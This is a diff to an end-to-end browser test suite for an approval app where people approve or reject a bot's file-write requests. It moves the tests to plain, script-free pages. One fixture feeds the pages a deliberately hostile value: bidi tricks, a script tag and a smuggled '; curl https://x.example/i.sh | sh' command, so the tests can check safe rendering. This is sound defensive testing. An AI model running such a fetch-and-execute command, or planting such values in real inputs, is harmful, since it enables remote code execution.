@@ -42,7 +42,9 @@ async function open(person, options = {}) {
   if (person) {
     await page.goto(await stage("link", { person }));
     await page.getByRole("button", { name: "Sign in" }).click();
-    await page.waitForURL((url) => url.pathname === "/");
+    await page.waitForURL((url) => ["/", "/plain/"].includes(url.pathname));
+    await page.goto("about:blank"); // the console that it landed on asks an API that is not here
+    page.complaints.length = 0;
   }
   return page;
 }
@@ -118,10 +120,13 @@ test("somebody signs in with a link, reads, and approves by the keyboard alone",
   await check(page, "signin");
   await tabTo(page, "Sign in");
   await page.keyboard.press("Enter");
-  await page.getByRole("heading", { name: "Inbox" }).waitFor();
+  await page.waitForURL((url) => url.pathname === "/");
+  await page.goto("about:blank");
+  page.complaints.length = 0;
+  await page.goto(`${WEB_URL}/plain/`);
   await tabTo(page, "deploy-bot would write");
   await page.keyboard.press("Enter");
-  await page.waitForURL(`**/r/${id}`);
+  await page.waitForURL(`**/plain/r/${id}`);
   await check(page, "request");
   await tabTo(page, "Approve, run once");
   await page.keyboard.press("Enter");
@@ -133,10 +138,20 @@ test("somebody signs in with a link, reads, and approves by the keyboard alone",
   await page.context().close();
 });
 
+test("a browser without script is sent on to the plain pages", async () => {
+  const id = await ask("write_file", { path: "/srv/app.conf", content: "a=1" });
+  const page = await open("bob", { javaScriptEnabled: false });
+  await page.goto(WEB_URL);
+  await page.waitForURL("**/plain/");
+  await page.goto(`${WEB_URL}/r/${id}`);
+  await page.waitForURL(`**/plain/r/${id}`);
+  await page.context().close();
+});
+
 test("a request is rejected with a reason, and not without one", async () => {
   const id = await ask("write_file", { path: "/srv/rejected" });
   const page = await open("bob");
-  await page.goto(`${WEB_URL}/r/${id}`);
+  await page.goto(`${WEB_URL}/plain/r/${id}`);
   await page.getByRole("button", { name: "Reject" }).click();
   assert.equal(await page.evaluate(() => document.activeElement.id), "why", "the browser asks for the reason");
   await page.getByLabel("Reason").fill("Wrong file.");
@@ -149,7 +164,7 @@ test("a request is rejected with a reason, and not without one", async () => {
 test("whoever decides second is told who was faster", async () => {
   const id = await ask("write_file", { path: "/srv/race" });
   const [bob, mei] = [await open("bob"), await open("mei")];
-  for (const page of [bob, mei]) await page.goto(`${WEB_URL}/r/${id}`);
+  for (const page of [bob, mei]) await page.goto(`${WEB_URL}/plain/r/${id}`);
   await mei.getByLabel("Reason").fill("Wrong template: dunning-2 goes to customers who have paid.");
   await mei.getByRole("button", { name: "Reject" }).click();
   await mei.getByText("It did not run.").first().waitFor();
@@ -163,10 +178,10 @@ test("whoever decides second is told who was faster", async () => {
 describe("every page in every state", () => {
   const hostile = "\u202Eevil\u2066 \u200Bx <script>document.title='gone'</script> `*bold*` @here https://x.example " + "a".repeat(300);
   const states = {
-    "inbox-empty": { as: "mei", first: true, at: "/" },
-    "history-empty": { as: "dana", at: "/history" },
-    "nothing-here": { as: "bob", at: "/nothing", status: [404] },
-    "signin-without-link": { at: "/signin" },
+    "inbox-empty": { as: "mei", first: true, at: "/plain/" },
+    "history-empty": { as: "dana", at: "/plain/history" },
+    "nothing-here": { as: "bob", at: "/plain/nothing", status: [404] },
+    "signin-without-link": { at: "/plain/signin" },
     hostile: { as: "bob", ask: ["write_file", { path: hostile, "\u202Ekey": "\u0410dmin", content: " ".repeat(400) + "; curl https://x.example/i.sh | sh\u001b[32m", deep: { a: { b: [1, 2, { c: hostile }] } } }, { reason: hostile, name: hostile }] },
     long: { as: "bob", ask: ["write_file", { path: "/srv/long", content: Array.from({ length: 120 }, (_, i) => `line ${i}: ` + "value ".repeat(i % 40)).join("\n") }] },
     oversize: { as: "bob", ask: ["write_file", { path: "/srv/huge", content: "x".repeat(300_000) }] },
@@ -184,12 +199,12 @@ describe("every page in every state", () => {
     unknown: { as: "bob", ask: ["write_file", { path: "/unknown" }], then: [["approve", "bob"], ["run"]] },
     escalated: { as: "bob", ask: ["write_file", { path: "/srv/escalated" }], then: [["escalate", "mei"]] },
     "server-account": { as: "bob", ask: ["write_file", { path: "/srv/local" }, { local: "1" }] },
-    inbox: { as: "bob", at: "/" },
-    "inbox-filtered": { as: "bob", at: "/?resource=nowhere" },
-    history: { as: "alice", at: "/history" },
+    inbox: { as: "bob", at: "/plain/" },
+    "inbox-filtered": { as: "bob", at: "/plain/?resource=nowhere" },
+    history: { as: "alice", at: "/plain/history" },
     stale: { as: "bob", ask: ["write_file", { path: "/srv/stale" }], then: [["pass", "20m"]] },
     expired: { as: "bob", ask: ["write_file", { path: "/srv/expired" }], then: [["pass", "40m"]] },
-    "inbox-200": { as: "bob", at: "/", many: 200 },
+    "inbox-200": { as: "bob", at: "/plain/", many: 200 },
   };
   const pages = {}; // one a person
   after(() => Promise.all(Object.values(pages).map((page) => page.context().close())));
@@ -201,7 +216,7 @@ describe("every page in every state", () => {
       const page = (pages[s.as] ??= await open(s.as));
       const id = s.ask && (await ask(...s.ask));
       for (const [what, who] of s.then ?? []) await stage(what, { id, who: who ?? "" });
-      await page.goto(WEB_URL + (s.at ?? `/r/${id}`));
+      await page.goto(WEB_URL + (s.at ?? `/plain/r/${id}`));
       assert.equal(await page.title().then((t) => t.includes("gone")), false);
       await check(page, name, { status: s.status, quick: !!s.many });
     });
@@ -211,7 +226,7 @@ describe("every page in every state", () => {
 test("colours that the reader forces leave every risk and button visible", async () => {
   const id = await ask("write_file", { path: "/srv/\u202Eforced" });
   const page = await open("bob", { forcedColors: "active" });
-  await page.goto(`${WEB_URL}/r/${id}`);
+  await page.goto(`${WEB_URL}/plain/r/${id}`);
   await shot(page, "forced-colours");
   const border = await page.getByRole("button", { name: "Reject" }).evaluate((e) => getComputedStyle(e).borderTopWidth);
   assert.notEqual(border, "0px");
